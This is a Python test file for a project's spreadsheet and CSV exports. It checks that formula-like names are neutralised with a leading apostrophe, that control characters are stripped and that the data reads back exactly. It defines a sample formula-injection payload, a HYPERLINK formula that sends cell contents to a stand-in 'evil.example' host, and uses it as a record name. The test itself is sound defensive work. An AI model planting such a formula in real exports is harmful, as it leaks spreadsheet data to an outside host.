"""Exports that cannot attack their reader (issue 18, finding 6), end to end on both engines:
``kuznia export xlsx`` and the public tracker CSV neutralise formula-like names, never crash on
a control character, never write a workbook that cannot be opened, and read back exactly."""

from __future__ import annotations

import csv
import io
import warnings
import zipfile
from datetime import date

import pytest
from openpyxl import load_workbook
from sqlalchemy import select, update

from kuznia.api import create_app
from kuznia.cli.main import run
from kuznia.db import registries as db
from kuznia.money import Money
from kuznia.services.contracting.money_flows import FlowRequest, commit_funds
from kuznia.services.kernel.actors import Actor
from kuznia.services.registries.workbook_import import import_workbook
from kuznia.services.wiring import database_at
from kuznia.settings import load_settings
from tests.factories import scenario_bytes
from tests.integration.contracting.world import UA_BUDGET, fpv_draft, load_world, signed
from tests.integration.spreadsheets.workbooks import register_parties

with warnings.catch_warnings():
    warnings.simplefilter("ignore")
    from fastapi.testclient import TestClient

FORMULA = '=HYPERLINK("https://evil.example/?"&A2,"open the report")'


def _rename(database, model, record_id: str, name: str) -> None:
    with database.transaction() as session:
        session.execute(update(model).where(model.id == record_id).values(name=name))


@pytest.fixture
def exported(database, database_url, tmp_path):
    scenario = tmp_path / "s.json"
    scenario.write_bytes(scenario_bytes())
    assert run(["--database-url", database_url, "scenario", "import", str(scenario)]) == 0
    with database.reading() as session:
        ids = sorted(session.scalars(select(db.Capability.id)))
    names = [FORMULA, "bell\x07ringer non\uffffcharacter"]
    for record_id, name in zip(ids, names, strict=False):
        _rename(database, db.Capability, record_id, name)
    out = tmp_path / "registries.xlsx"
    assert run(["--database-url", database_url, "export", "xlsx", "--out", str(out)]) == 0
    return out.read_bytes(), dict(zip(ids, names, strict=False))


def test_the_registries_workbook_holds_no_formula_and_opens(exported):
    data, _ = exported
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        sheets = [n for n in archive.namelist() if n.startswith("xl/worksheets/")]
        assert not any(b"<f>" in archive.read(n) for n in sheets)
    sheet = load_workbook(io.BytesIO(data))["capabilities"]
    shown = [row[1] for row in sheet.iter_rows(min_row=3, values_only=True)]
    assert "'" + FORMULA in shown
    assert "bellringer noncharacter" in shown


def test_the_workbook_reads_back_the_exact_names(exported, tmp_path):
    data, names = exported
    target = database_at(f"sqlite:///{tmp_path / 'again.sqlite3'}")
    target.upgrade()
    register_parties(target, data)
    with target.unit_of_work(Actor.system("test")) as uow:
        import_workbook(uow, "registries.xlsx", data)
    with target.reading() as session:
        stored = {c.id: c.name for c in session.scalars(select(db.Capability))}
    target.dispose()
    expected = {k: v.replace("\x07", "").replace("\uffff", "") for k, v in names.items()}
    assert {k: stored[k] for k in expected} == expected


def test_the_public_tracker_csv_neutralises_a_formula_in_a_partner_name(database):
    load_world(database)
    signed(database, fpv_draft(), UA_BUDGET)
    with database.unit_of_work(UA_BUDGET) as uow:
        commit_funds(uow, "contract-1", FlowRequest(Money.parse("99.99", "EUR"), date(2026, 2, 1)))
    _rename(database, db.Partner, "ua-budget", FORMULA + "\x07")
    app = create_app(load_settings(database_url=str(database.engine.url)), database=database)
    with TestClient(app, base_url="https://testserver") as client:
        answer = client.get("/api/v1/open-data/tracker.csv")
    assert answer.status_code == 200
    rows = list(csv.DictReader(io.StringIO(answer.text)))
    assert [r["provider_org_name"] for r in rows if r["provider_org_ref"] == "ua-budget"] == [
        "'" + FORMULA
    ]
    assert all(not v.startswith(("=", "+", "@")) for r in rows for v in r.values())
